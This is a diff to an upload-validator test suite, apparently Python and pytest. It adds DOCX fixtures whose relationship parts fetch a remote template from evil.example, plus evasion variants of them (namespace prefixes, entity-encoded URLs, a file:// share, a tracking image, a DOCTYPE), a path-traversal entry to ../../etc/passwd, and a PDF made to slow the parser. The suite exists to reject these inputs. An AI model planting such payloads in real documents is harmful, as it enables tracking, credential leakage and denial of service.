@@ -24,6 +24,11 @@ FETCHES = (
     '2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
     "</Relationships>"
 )
+PREFIXED = FETCHES.replace("<Relationship ", "<p:Relationship xmlns:p='x' ")
+SPELLED = FETCHES.replace("https://", "&#104;ttps:&#47;/").replace("External", "E&#120;ternal")
+SHARE = FETCHES.replace("https://evil.example", "file://evil.example/share")
+PIXEL = FETCHES.replace("attachedTemplate", "image")
+DOCTYPE = f"<!DOCTYPE x [<!ENTITY a 'b'>]>{FETCHES.replace('attachedTemplate', 'hyperlink')}"
 HYPERLINK = FETCHES.replace("attachedTemplate", "hyperlink")
 NORMAL_TEMPLATE = FETCHES.replace("https://evil.example/t.dotm", "file:///C:/Vorlagen/Normal.dotm")
 
@@ -114,6 +119,12 @@ def test_good_files_are_taken_by_what_they_are(name: str, content: bytes, kind: 
         pytest.param("text.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), id="ole"),
         pytest.param("text.docx", docx({"word/activeX/activeX1.xml": b"x"}), id="activex"),
         pytest.param("text.docx", docx({"word/_rels/settings.xml.rels": FETCHES}), id="fetches"),
+        pytest.param("text.docx", docx({"word/_rels/settings.xml.rels": PREFIXED}), id="fetches, prefixed"),
+        pytest.param("text.docx", docx({"word/_rels/settings.xml.rels": SPELLED}), id="fetches, as entities"),
+        pytest.param("text.docx", docx({"word/_rels/settings.xml.rels": SHARE}), id="fetches from a share"),
+        pytest.param("text.docx", docx({"word/_rels/document.xml.rels": PIXEL}), id="calls home by a picture"),
+        pytest.param("text.docx", docx({"word/_rels/document.xml.rels": "<Relationships"}), id="broken list"),
+        pytest.param("text.docx", docx({"word/_rels/document.xml.rels": DOCTYPE}), id="document type"),
         pytest.param("text.docx", docx({"../../etc/passwd": b"x"}), id="leads out"),
         pytest.param("text.docx", docx({"word/inner.zip": b"PK"}), id="nested"),
         pytest.param("text.docx", packed({"a.txt": "a"}), id="any zip"),
@@ -188,3 +199,10 @@ def test_names_lose_what_is_dangerous_in_them(name: str, plain: str) -> None:
 def test_endings_are_read_off_the_plain_name() -> None:
     assert ending_of("bild.JPEG ") == "jpg"
     assert ending_of("datei") == ""
+
+
+@pytest.mark.parametrize("part", [b"stream\n", b"stream\nx\nendstream\n", b" obj /ObjStm stream\n"])
+def test_a_hostile_pdf_is_read_in_one_pass(part: bytes) -> None:
+    """Each opening without an end used to read the rest of the file anew: hours for one megabyte."""
+    content = b"%PDF-1.7\n" + part * (1_000_000 // len(part)) + b"\n%%EOF\n"
+    assert checked_upload(SimpleUploadedFile("gross.pdf", content)).content == content
